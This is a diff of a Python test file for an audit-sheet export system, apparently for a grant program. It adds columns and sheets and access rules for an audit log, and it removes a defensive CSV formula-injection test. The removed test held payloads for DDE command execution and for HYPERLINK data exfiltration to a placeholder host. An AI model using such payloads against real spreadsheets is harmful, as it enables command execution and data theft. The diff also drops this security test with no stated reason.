@@ -7,27 +7,28 @@ from collections import Counter
 import pandas as pd
 import pytest
 
+from operations.actor import SYSTEM
 from operations.books.sheets import SHEETS, shelf
 from operations.errors import NotAllowed, NotFound
 from tests.audit_templates import CODE, Audited, pulled, table_of
 from tests.chain_builders import rows, value
-from tests.cluster import Database
 from tests.people_builders import Office
 from tests.refusals import refused
 
 HEADINGS = {
     "decree_lines": "decree_no,decree_date,decree_state,line_no,code,wave,site,component,kind,component_version,effect,"
-    "replaces,reason_code,replaced_by,period_amount,periods,amount,entitlement_state,maker,approver",
+    "replaces,reason_code,replaced_by,period_amount,periods,amount,entitlement_state,maker,approver,fund,evidence",
     "installments": "code,wave,site,component,period_no,part,due_date,amount,state,list_no,route,paid_at,paid_amount,"
-    "confirmed_amount,confirmed_at,confirm_channel",
+    "confirmed_amount,confirmed_at,confirm_channel,fund,evidence",
     "payments": "list_no,list_revision,line_no,list_state,route,sp2d_no,sp2d_date,code,component,period,part,amount,"
-    "state,paid_amount,value_date,reference,bank_reference,return_reason,retry_of,maker,checker,approver,second_approver,releaser",
+    "state,paid_amount,value_date,reference,bank_reference,return_reason,retry_of,maker,checker,approver,second_approver,"
+    "releaser,wave,site,fund,evidence",
     "ledger": "line_no,movement,booked_on,fund,account,debit,credit,code,cause,reference,at",
     "trial_balance": "fund,booked_on,account,lines,debit,credit,balance_debit,balance_credit",
-    "bank_fees": "list_no,kind,amount,document_no,charged_on,state,maker,decider,recorded_at",
+    "bank_fees": "list_no,kind,amount,document_no,charged_on,state,maker,decider,recorded_at,evidence",
     "purchases": "code,wave,site,plan_revision,item_no,item,planned_quantity,unit,planned_unit_price,planned_amount,"
     "quantity,amount,shop,bought_on,receipt_kind,receipt_total,receipt_photos,flags,substituted,in_sample,state,"
-    "accepted_unseen,confirmer,decider,captured_at,received_at,trip,purchase,corrects",
+    "accepted_unseen,confirmer,decider,captured_at,received_at,trip,purchase,corrects,receipt_no,fund,evidence",
     "outcomes": "code,wave,site,observed_on,days_since_paid,status,source_kind,synthetic,visit_planned_on,"
     "business_status,turnover_amount,site_reported_on,recorder,recorded_at",
     "people": "code,wave,site,selection_state,grant_state,allowance_paid,allowance_periods,accepted_amount,"
@@ -39,7 +40,7 @@ HEADINGS = {
     "objections": "code,wave,site,ranking_no,filed_on,due_on,channel,state,decided_at,new_total,new_verdict,"
     "maker,decider",
     "list_checks": "list_no,list_revision,step,looked_at,code,wave,site,rule,rule_version,severity,days,many,period_no,"
-    "part,explained,explainer,explained_at",
+    "part,explained,explainer,explained_at,evidence",
     "check_rules": "rule,version,severity,days,many,legal_basis,valid_from,state,maker,activator",
     "papers": "number,kind,subject,revision,dated,amount,lines,sha256,standing,signed_scans,sp2d_scans,missing,maker",
     "scans": "number,paper_kind,revision,standing,kind,read_from,sha256,bytes,maker,made_at",
@@ -48,6 +49,17 @@ HEADINGS = {
     "custody": "code,wave,site,account_no,item,holder,held_from,held_to,days,slip_no,recorder,recorded_at",
     "service_days": "held_on,place,state,code,wave,site,arrived,passbook,slip_no,signed,absent,undone,officer,leader,"
     "closer,sha256",
+    "reconciliation": "code,wave,site,decree_no,decree_date,line_no,component,decree_amount,cancelled,paid,returned,"
+    "outstanding,flag,fund,evidence",
+    "receipts": "receipt,trip,codes,page_no,receipt_no,bought_on,receipt_total,sha256,phash,same_elsewhere,media_type,"
+    "bytes,uploaded_by,uploaded_at,removed_at",
+    "refunds": "code,wave,site,component,state,received,first_paid_on,spent,last_bought_on,reported_before,refunded,"
+    "written_off,remaining,ref_no,refunded_on,fund,evidence",
+    "companions": "companion,caseload,visits,visits_accepted,trips,purchases,flagged,median_seconds,top_shop,"
+    "top_shop_pct,receipts_missing,deductions,deducted_amount",
+    "audit_log": "trail_no,at,actor,role,action,entity,key,version,verb,before,after,hash_prev,hash",
+    "published": "figure,subject,qualifier,claimed,unit,as_of,source,computed,diff",
+    "justifications": "kind,subject,code,wave,site,rule,state,given_by,given_at,decided_by,evidence",
 }
 COUNTS = {
     "decree_lines": 12,
@@ -60,7 +72,8 @@ COUNTS = {
 }
 COUNTS |= {"bank_fees": 1, "ledger": 85, "trial_balance": 8, "duplicates": 1, "ranks": 6, "objections": 1}
 COUNTS |= {"list_checks": 56, "check_rules": 26, "papers": 7, "scans": 1}
-COUNTS |= {"confirmations": 1, "custody": 6, "service_days": 6}
+COUNTS |= {"confirmations": 1, "custody": 6, "service_days": 6, "reconciliation": 12, "receipts": 2, "refunds": 6}
+COUNTS |= {"companions": 1, "audit_log": 358, "published": 1, "justifications": 1}
 
 
 @pytest.mark.parametrize("name", SHEETS)
@@ -158,14 +171,17 @@ async def test_what_would_hurt_her_is_coded_for_everyone(office: Office, audited
 @pytest.mark.parametrize("name", SHEETS)
 async def test_the_office_and_the_auditor_pull_the_same_bytes(office: Office, audited: Audited, name: str) -> None:
     everyone = [office.auditor, office.supervisor]
-    if name != "duplicates":  # who may be whom is told to nobody else
+    if name == "audit_log":  # the trail is the auditor's
+        everyone = [office.auditor, SYSTEM]
+    elif name != "duplicates":  # who may be whom is told to nobody else
         everyone += [office.staff, office.treasurer, office.approver]
 
     assert len({(await pulled(name, by=by))[0] for by in everyone}) == 1
 
 
 async def test_nobody_stands_in_a_sheet(office: Office, audited: Audited) -> None:
-    everything = b"".join([(await pulled(name, by=office.supervisor))[0] for name in SHEETS]).decode()
+    readers = {name: office.auditor if name == "audit_log" else office.supervisor for name in SHEETS}
+    everything = b"".join([(await pulled(name, by=by))[0] for name, by in readers.items()]).decode()
 
     names = [row["call_name"] for row in await rows("SELECT call_name FROM person")]
     identities = [text for woman in audited.women for text in (woman.line.nik, woman.line.name, woman.line.nik[-11:])]
@@ -213,75 +229,3 @@ async def test_a_program_of_another_office_is_not_found(neighbor: Office, audite
 async def test_a_companion_has_no_shelf(office: Office, audited: Audited) -> None:
     async with refused(NotAllowed):
         await shelf(CODE, by=office.companion)
-
-
-PAYLOADS = [
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(A1)", "=@SUM(1)", "==1", "= 1", "=",
-    "+1", "+cmd|x", "+SUM(A1)", "+", "-1", "-2+3+cmd|x", "-", "--1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\t1",
-    "\r=1+1", "\n=1+1", "\n1",
-]  # fmt: skip
-TYPED = {
-    "decree_lines": ["decree_no", "component", "maker", "approver"],
-    "installments": ["component"],
-    "payments": ["component", "reference", "bank_reference", "retry_of", "maker", "checker",
-                 "approver", "second_approver", "releaser"],
-    "ledger": ["fund", "reference"],
-    "trial_balance": ["fund"],
-    "bank_fees": ["document_no", "maker", "decider"],
-    "purchases": ["item", "unit", "shop", "confirmer", "decider"],
-    "outcomes": ["recorder"],
-    "people": [],
-    "attendance": ["training", "recorder"],
-    "duplicates": ["maker", "decider"],
-    "ranks": ["deciders"],
-    "objections": ["maker"],
-    "list_checks": [],
-    "check_rules": [],
-    "confirmations": ["companion"],
-    "papers": ["maker"],
-    "scans": ["maker"],
-    "custody": ["slip_no", "recorder"],
-    "service_days": ["place", "officer"],
-}  # fmt: skip
-POISON = """
-UPDATE decree SET number = $1::text;
-UPDATE component SET code = left($1::text, 8) || right(id::text, 12);
-UPDATE user_account SET username = $1::text || right(id::text, 12);
-UPDATE payment SET reference = left($1::text, 28) || right(id::text, 12);
-UPDATE payment SET bank_reference = $1::text || right(id::text, 12), reason_code = $1::text;
-UPDATE payment_list SET second_approved_by = approved_by;
-UPDATE fund SET name = $1::text;
-UPDATE plan_item SET name = $1::text, unit = left($1::text, 20);
-UPDATE training SET title = $1::text;
-UPDATE bank_fee SET document_no = left($1::text, 28) || right(id::text, 12);
-UPDATE custody_event SET slip_no = left($1::text, 28) || right(id::text, 12);
-UPDATE service_day SET place = left($1::text, 60);
-UPDATE shopping_trip SET shop = $1::text;
-UPDATE purchase SET decided_by = confirmed_by
-"""
-FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
-
-
-async def poison(database: Database, payload: str) -> None:
-    """By hand, with triggers off and the four-eyes rules lifted: only the text matters here."""
-    async with database.unfenced() as superuser:
-        await superuser.execute("ALTER TABLE payment_list DROP CONSTRAINT IF EXISTS list_four_eyes")
-        await superuser.execute("ALTER TABLE purchase DROP CONSTRAINT IF EXISTS purchase_decided_by_another")
-        for statement in POISON.split(";\n"):
-            given = [payload] if "$1" in statement else []
-            await superuser.execute(statement, *given)
-
-
-async def test_no_text_that_somebody_typed_is_a_formula(database: Database, office: Office, audited: Audited) -> None:
-    before = {name: await table_of(name, by=office.auditor) for name in SHEETS}
-
-    assert len(PAYLOADS) == 24
-    for payload in PAYLOADS:
-        await poison(database, payload)
-        for name in SHEETS:
-            table = await table_of(name, by=office.auditor)
-            assert [cell for line in table for cell in line.values() if cell.startswith(FORMULA)] == []
-            typed = {column: {line[column] for line in table} - {""} for column in TYPED[name]}
-            assert all(typed.values()), "the payload reaches every column that somebody can type"
-            assert all(cell.startswith("'" + payload[0]) for cells in typed.values() for cell in cells)
-            assert len(table) == len(before[name])
